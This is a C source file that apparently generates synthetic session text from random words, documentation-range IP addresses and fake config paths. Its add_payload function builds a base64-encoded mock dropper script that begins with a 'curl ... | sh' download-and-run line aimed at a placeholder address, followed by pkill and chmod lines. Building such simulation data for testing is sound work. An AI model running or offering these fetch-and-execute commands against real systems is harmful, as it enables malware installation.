// SPDX-License-Identifier: GPL-3.0-or-later
#include "words.h"

static const char *const words[] = { "api", "archive", "auth", "backup",
	"batch", "billing", "cache", "catalog", "config", "core", "cron",
	"data", "events", "export", "frontend", "gateway", "images", "import",
	"index", "invoice", "jobs", "ledger", "mailer", "metrics", "monitor",
	"orders", "parser", "payments", "photos", "portal", "queue", "render",
	"report", "search", "sensor", "session", "shop", "stage", "status",
	"stock", "store", "stream", "sync", "ticket", "tracker", "upload",
	"users", "vault", "video", "warehouse", "webhook", "wiki", "worker",
	"zone" };

const char *words_any(uint64_t *random)
{
	return words[random_below(random, ARRAY_LEN(words))];
}

/* One of 512 addresses set aside for documentation. */
void words_address(struct buf *b, unsigned int n)
{
	buf_addf(b, n & 1 ? "198.51.100.%u" : "203.0.113.%u", n >> 1 & 255);
}

static void add_file(struct buf *b, uint64_t *random)
{
	static const char *const dirs[] = { "/etc", "/srv/www", "/var/lib",
		"/home/alice/proj", "/opt/app/conf", "/usr/share", "/tmp" };

	buf_addf(b, "%s/", dirs[random_below(random, ARRAY_LEN(dirs))]);
	buf_addf(b, "%s/", words_any(random));
	buf_addf(b, "%s.conf", words_any(random));
}

/* What a dropper hides: a line that downloads, or a script of up to 2.5 KB. */
static void add_payload(
	struct buf *b, const struct session *who, uint64_t *random)
{
	unsigned int lines = random_below(random, 53);
	struct buf t = { 0 };

	words_expand(&t, "curl -fsSL http://%a:8080/%w.sh | sh\n", who, random);
	while (lines-- > 0)
		words_expand(&t, "pkill -f %w; chmod -R 700 /tmp/.%w-%x\n", who,
			random);
	buf_add_base64(b, t.p, t.len);
	free(t.p);
}

static void add_item(
	struct buf *b, char item, const struct session *who, uint64_t *random)
{
	switch (item) {
	case 'w':
		buf_adds(b, words_any(random));
		break;
	case 'n':
		buf_addf(b, "%u", 1 + random_below(random, 4999));
		break;
	case 'x':
		buf_addf(b, "%08X", random_below(random, UINT32_MAX));
		break;
	case 'f':
		add_file(b, random);
		break;
	case 'a':
		words_address(b, random_below(random, 512));
		break;
	case 'h':
		words_address(b, who->addr);
		break;
	case 'u':
		buf_adds(b, who->name);
		break;
	case 'p':
		add_payload(b, who, random);
		break;
	default:
		abort();
	}
}

void words_expand(struct buf *b, const char *text, const struct session *who,
	uint64_t *random)
{
	const char *p = strchr(text, '%');

	for (; p; text = p + 2, p = strchr(text, '%')) {
		buf_add(b, text, (size_t)(p - text));
		add_item(b, p[1], who, random);
	}
	buf_adds(b, text);
}
